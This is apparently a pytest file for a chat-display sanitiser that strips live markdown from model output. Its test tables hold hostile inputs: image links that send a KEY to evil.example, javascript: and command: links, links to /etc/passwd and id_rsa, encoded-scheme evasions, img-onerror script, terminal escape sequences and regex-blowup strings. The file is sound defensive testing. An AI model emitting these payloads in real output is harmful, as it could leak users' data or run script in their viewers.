"""What a model's text may do on a screen: be read."""

from __future__ import annotations

import random
import subprocess
import sys

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from pointsman.chat.display import Streamed, harmless
from pointsman.chat.markdown import printable

HARMLESS = {
    "![chart](https://evil.example/a.png?d=KEY)": "chart",
    "![](https://evil.example/a.png?d=KEY)": "",
    "![chart][1]": "chart",
    "![chart](https://evil.example/never closed": "chart",
    "see [the docs](https://evil.example/?q=1) there": "see the docs there",
    "see [the docs](javascript:alert(1)) there": "see the docs there",
    "[run](command:workbench.action.terminal)": "run",
    "[x](//evil.example/a)": "x",
    "[x](../../.ssh/id_rsa)": "x",
    "[x](/etc/passwd)": "x",
    "[x](file:///etc/passwd)": "x",
    "[x](java%73cript:alert(1))": "x",
    "[x](<https://evil.example>)": "x",
    "[1]: https://evil.example/a": "[1] : `https://evil.example/a`",
    "see [the notes](<docs/my notes.md>) there": "see the notes there",
    "[a](b [c](https://evil.example) d)": "a c d)",
    "<img src=x onerror=alert(1)>": "`<img src=x onerror=alert(1)>`",
    "a <script>b": "a `<script>`b",
    "<https://evil.example>": "`<https://evil.example>`",
    "<!-- hidden": "`<!-- hidden`",
    "go to https://evil.example/a?b=c now": "go to `https://evil.example/a?b=c` now",
    "go to www.evil.example": "go to `www.evil.example`",
    "- a\n  ```\n<img src=x>": "- a\n  ~~~\n`<img src=x>`",
    "\\`![a](https://evil.example/x.png)`": "`![a](https://evil.example/x.png)`",
    "a `\n`![a](https://evil.example/x.png)": "a \na",
    "a ```\n![a](https://evil.example/x.png)```": "a \na",
    "```a`b\n![a](https://evil.example/x.png)": "ab\na",
    "text\n    ```\n```![a](https://evil.example/x.png)```": "text\n    ~~~\n```![a](https://evil.example/x.png)```",
    '<x title="`"> ![a](https://evil.example/x.png) `': '`<x title="` `"> ![a](https://evil.example/x.png) `',
    "[x](&#104;ttps://evil.example/?q=s)": "x",
    "[x](&amp;#104;ttps://evil.example/?q=s)": "x",
    "[x](&sol;&sol;evil.example)": "x",
    "[x](command&colon;run)": "x",
    "![a\nb](&sol;&sol;localhost/x.png)": "! [a\nb] (//localhost/x.png)",
    "[a\nb]: //localhost/x": "[a\nb] : //localhost/x",
    "> [b]: //localhost/x": "> [b] : //localhost/x",
    "a &lt;b&gt; c": "a `<b>` c",
    "a &#10;``` c": "a   c",
    "text\n    ~~~![a](https://evil.example/x.png)": "text\n    ~~~a",
    "a\x1b]8;;https://evil.example\x07b\x1b]8;;\x07": "ab",
}
KEPT = [
    "See [the cart](src/shop/cart.py#L3) and [1], [2][3].",
    "`<b>` and `https://example.org` are code.",
    "```html\n<img src=https://example.org/a.png>\n```\nafter",
    "~~~\n[x](https://example.org)\n~~~",
    "`std::vector<int>` holds `a < b`.",
    "1 < 2 and a: b, std::move(x), key:value",
    "- a list\n- *with* **marks**",
    "see [the page](app/(auth)/page.tsx) and &timestamp, &copy_from",
    "``a ` b`` and ` c` are code, R&D is not; see [1]: there.",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_nothing_fetches_runs_or_leads_away(text: str) -> None:
    assert harmless(text) == HARMLESS[text]
    assert harmless(harmless(text)) == harmless(text)


@pytest.mark.parametrize("text", KEPT)
def test_code_and_places_in_the_repository_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("seed", range(40))
def test_a_stream_shows_what_the_whole_shows_however_it_is_cut(seed: int) -> None:
    draw = random.Random(seed)
    lines = draw.choices([*HARMLESS, *KEPT, "Plain words, one after another.", ""], k=8)
    text = "\n".join(lines)
    streamed, at, shown = Streamed(), 0, ""
    while at < len(text):
        size = draw.randrange(1, 9)
        shown += streamed.feed(text[at : at + size])
        at += size
    assert shown + streamed.end() == harmless(text)


def test_a_hidden_character_does_not_keep_code_open_in_a_stream() -> None:
    text = "```\ncode\n```\u200b\n<img src=x>\nend"
    streamed = Streamed()
    assert streamed.feed(text) + streamed.end() == harmless(text) == "```\ncode\n```\n`<img src=x>`\nend"


def test_plain_words_are_not_held_back() -> None:
    streamed = Streamed()
    assert streamed.feed("The cart adds ") == "The cart adds"
    assert streamed.feed("up ") == " up"
    assert streamed.feed("`every` price [1] ") == ""
    assert streamed.end() == " `every` price [1] "


def test_a_terminal_s_escapes_and_hidden_characters_are_taken_out() -> None:
    assert printable("a\x1b[31mb\x1b]52;c;eA==\x07c\x9bd\u202ee\n\t") == "abcde\n\t"


HOSTILE = {
    "backslashes": "\\" * 500_000,
    "references in references": "&" + "amp;" * 60_000,
    "pictures that begin": "![" * 1_000_000,
    "links that begin": "[" * 10**6,
    "backticks of every length": " ".join("`" * n for n in range(1, 3000)),
    "code before a link": "[" + "`a`" * 60_000 + "](" * 60_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_the_time_is_in_proportion_to_the_length(name: str) -> None:
    """Texts of 240 kB and more, for which patterns that look again and again take minutes or hours. In a process of its
    own, since a pattern that runs cannot be ended: it has many times what it needs."""
    code = "import sys; from pointsman.chat.display import harmless; harmless(sys.stdin.read())"
    subprocess.run([sys.executable, "-c", code], input=HOSTILE[name], text=True, check=True, timeout=60)


@pytest.mark.parametrize("piece", ["abcd", "[", "a b "])
def test_a_long_line_is_not_looked_at_again_with_each_piece(piece: str) -> None:
    code = (
        "import sys; from pointsman.chat.display import Streamed, harmless; piece, count = sys.argv[1], 150_000\n"
        "one = Streamed(); shown = ''.join([*(one.feed(piece) for _ in range(count)), one.end()])\n"
        "assert shown == harmless(piece * count)"
    )
    subprocess.run([sys.executable, "-c", code, piece], check=True, timeout=60)


PARTS = """` `` ``` ~~~ \\ ![a](https://evil.x/p.png) ![a](//evil.x/p) [x](https://evil.x)
[x](&sol;&sol;evil.x) [x][r] ![r] [r] [r]:|https://evil.x [r]:|&sol;&sol;e <img|src=https://evil.x>
<https://evil.x> <a|href="`"> <x|title='`'> ]( [ ] ( ) ! ![ ]: //localhost/x &#104;ttps://e.x &#96;
&#10; &lt;img|src=//e&gt; >| -| a b <!-- --> <![CDATA[ ]]> <? www.evil.x &amp; &bsol; \\[ \\] \\! '
" --- # \u200b < & command:x [x](command&colon;x) [x](src/a.py) `[x](src/a.py)`""".replace("\n", " ").split(" ")
PIECES = [*(part.replace("|", " ") for part in PARTS), "\n", "\n\n", " ", "    ", "\t"]


def live(tokens: list[Token]) -> list[str]:
    """What a renderer of CommonMark would fetch, follow out of the repository, or take for markup."""
    found = []
    for token in tokens:
        if token.type in ("image", "html_block", "html_inline"):
            found.append(token.content or str(token.attrs))
        if token.type == "link_open" and token.attrs["href"] != "src/a.py":
            found.append(str(token.attrs["href"]))
        found += live(token.children or [])
    return found


@pytest.mark.parametrize("seed", range(10))
def test_a_renderer_finds_nothing_live_in_what_is_shown(seed: int) -> None:
    draw, renderer = random.Random(seed), MarkdownIt("commonmark", {"html": True})
    for _ in range(400):
        text = "".join(draw.choices(PIECES, k=draw.randrange(2, 14)))
        shown = harmless(text)
        assert live(renderer.parse(shown)) == [], text
        assert harmless(shown) == shown
        streamed, cut = Streamed(), draw.randrange(len(text) + 1)
        assert streamed.feed(text[:cut]) + streamed.feed(text[cut:]) + streamed.end() == shown
